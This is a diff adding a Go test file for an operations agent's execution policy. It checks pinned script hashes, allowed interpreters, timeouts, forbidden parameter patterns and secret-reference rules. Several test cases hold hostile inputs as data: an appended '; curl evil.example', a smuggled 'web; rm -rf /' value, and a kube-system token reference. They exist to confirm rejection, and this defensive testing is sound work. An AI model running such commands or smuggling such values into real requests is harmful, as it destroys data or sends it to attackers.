@@ -0,0 +1,170 @@
+package agent
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"testing"
+
+	pb "github.com/BogdanDolia/ops-butler/api/proto/agent"
+)
+
+// writePolicy writes a policy file and loads it
+func writePolicy(t *testing.T, content string) *Policy {
+	t.Helper()
+	file := filepath.Join(t.TempDir(), "policy.yaml")
+	if err := os.WriteFile(file, []byte(content), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	policy, err := LoadPolicy(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return policy
+}
+
+// writeExecutable creates an executable file with the given name in a new directory
+func writeExecutable(t *testing.T, name string) string {
+	t.Helper()
+	file := filepath.Join(t.TempDir(), name)
+	if err := os.WriteFile(file, []byte("#!/bin/sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	return file
+}
+
+func TestCheck(t *testing.T) {
+	sh, err := exec.LookPath("sh")
+	if err != nil {
+		t.Skip("sh is not installed")
+	}
+	const script = "kubectl rollout restart deploy/$PARAM_APP"
+	sum := sha256.Sum256([]byte(script))
+	hash := hex.EncodeToString(sum[:])
+	fakeSh := writeExecutable(t, "sh")
+	tool := writeExecutable(t, "tool")
+
+	policy := writePolicy(t, `
+templates:
+  - name: restart
+    sha256: `+hash+`
+  - name: any-script
+interpreters: [sh, not-installed-interpreter]
+binaries: [sh]
+max_timeout_seconds: 900
+forbidden_params:
+  - name: namespace
+    pattern: ^kube-system$
+  - name: "*"
+    pattern: "[;&|]"
+`)
+
+	valid := func(change func(*pb.ExecuteTaskRequest)) *pb.ExecuteTaskRequest {
+		req := &pb.ExecuteTaskRequest{
+			TemplateName:   "restart",
+			Script:         script,
+			TimeoutSeconds: 60,
+			Params:         map[string]string{"app": "web", "namespace": "payments"},
+		}
+		if change != nil {
+			change(req)
+		}
+		return req
+	}
+
+	tests := []struct {
+		name       string
+		req        *pb.ExecuteTaskRequest
+		wantReject bool
+	}{
+		{name: "allowed", req: valid(nil)},
+		{name: "template not listed", req: valid(func(r *pb.ExecuteTaskRequest) { r.TemplateName = "drop-database" }), wantReject: true},
+		{name: "pinned script changed", req: valid(func(r *pb.ExecuteTaskRequest) { r.Script += "; curl evil.example" }), wantReject: true},
+		{name: "unpinned template", req: valid(func(r *pb.ExecuteTaskRequest) { r.TemplateName, r.Script = "any-script", "echo hi" })},
+		{name: "interpreter by name", req: valid(func(r *pb.ExecuteTaskRequest) { r.Interpreter = "sh" })},
+		{name: "interpreter by its resolved path", req: valid(func(r *pb.ExecuteTaskRequest) { r.Interpreter = sh })},
+		{name: "other binary named like an allowed interpreter", req: valid(func(r *pb.ExecuteTaskRequest) { r.Interpreter = fakeSh }), wantReject: true},
+		{name: "interpreter not listed", req: valid(func(r *pb.ExecuteTaskRequest) { r.Interpreter = "python3" }), wantReject: true},
+		{name: "listed interpreter not installed", req: valid(func(r *pb.ExecuteTaskRequest) { r.Interpreter = "not-installed-interpreter" }), wantReject: true},
+		{name: "timeout above the maximum", req: valid(func(r *pb.ExecuteTaskRequest) { r.TimeoutSeconds = 901 }), wantReject: true},
+		{name: "no timeout", req: valid(func(r *pb.ExecuteTaskRequest) { r.TimeoutSeconds = 0 }), wantReject: true},
+		{name: "forbidden value", req: valid(func(r *pb.ExecuteTaskRequest) { r.Params["namespace"] = "kube-system" }), wantReject: true},
+		{name: "value forbidden for every parameter", req: valid(func(r *pb.ExecuteTaskRequest) { r.Params["app"] = "web; rm -rf /" }), wantReject: true},
+		{name: "allowed binary by absolute path", req: valid(func(r *pb.ExecuteTaskRequest) { r.TemplateName, r.Script = "any-script", sh+" -c true" })},
+		{name: "other binary by absolute path", req: valid(func(r *pb.ExecuteTaskRequest) { r.TemplateName, r.Script = "any-script", "x=$("+tool+")" }), wantReject: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := policy.Check(tt.req)
+			var policyErr *PolicyError
+			if err != nil && !errors.As(err, &policyErr) {
+				t.Fatalf("Check() error = %v, want a *PolicyError", err)
+			}
+			if (err != nil) != tt.wantReject {
+				t.Errorf("Check() error = %v, wantReject %t", err, tt.wantReject)
+			}
+		})
+	}
+}
+
+func TestLoadPolicyInvalid(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+	}{
+		{name: "unnamed forbidden param", content: "forbidden_params:\n  - pattern: x\n"},
+		{name: "invalid pattern", content: "forbidden_params:\n  - name: app\n    pattern: \"(\"\n"},
+		{name: "invalid secret reference pattern", content: "secret_references: [\"env://[\"]\n"},
+		{name: "binary not installed", content: "binaries: [not-installed-binary]\n"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			file := filepath.Join(t.TempDir(), "policy.yaml")
+			if err := os.WriteFile(file, []byte(tt.content), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			if _, err := LoadPolicy(file); err == nil {
+				t.Error("LoadPolicy() error = nil, want an error")
+			}
+		})
+	}
+}
+
+func TestCheckReferences(t *testing.T) {
+	policy := writePolicy(t, `
+secret_references:
+  - k8s://payments/*/*
+  - env://DB_*
+`)
+
+	tests := []struct {
+		name         string
+		policy       *Policy
+		params       map[string]string
+		secretParams []string
+		wantReject   bool
+	}{
+		{name: "listed kubernetes reference", policy: policy, params: map[string]string{"password": "k8s://payments/db/password"}, secretParams: []string{"password"}},
+		{name: "listed env reference", policy: policy, params: map[string]string{"password": "env://DB_PASSWORD"}, secretParams: []string{"password"}},
+		{name: "other namespace", policy: policy, params: map[string]string{"password": "k8s://kube-system/admin/token"}, secretParams: []string{"password"}, wantReject: true},
+		{name: "other env variable", policy: policy, params: map[string]string{"token": "env://ENROLLMENT_TOKEN"}, secretParams: []string{"token"}, wantReject: true},
+		{name: "no policy", params: map[string]string{"password": "env://DB_PASSWORD"}, secretParams: []string{"password"}, wantReject: true},
+		{name: "policy without secret_references", policy: &Policy{}, params: map[string]string{"password": "env://DB_PASSWORD"}, secretParams: []string{"password"}, wantReject: true},
+		{name: "param that isn't secret", params: map[string]string{"note": "env://ENROLLMENT_TOKEN"}},
+		{name: "secret param without a reference", params: map[string]string{"password": "sealed-by-server"}, secretParams: []string{"password"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := checkReferences(tt.policy, &pb.ExecuteTaskRequest{Params: tt.params, SecretParams: tt.secretParams})
+			if (err != nil) != tt.wantReject {
+				t.Errorf("checkReferences() error = %v, wantReject %t", err, tt.wantReject)
+			}
+		})
+	}
+}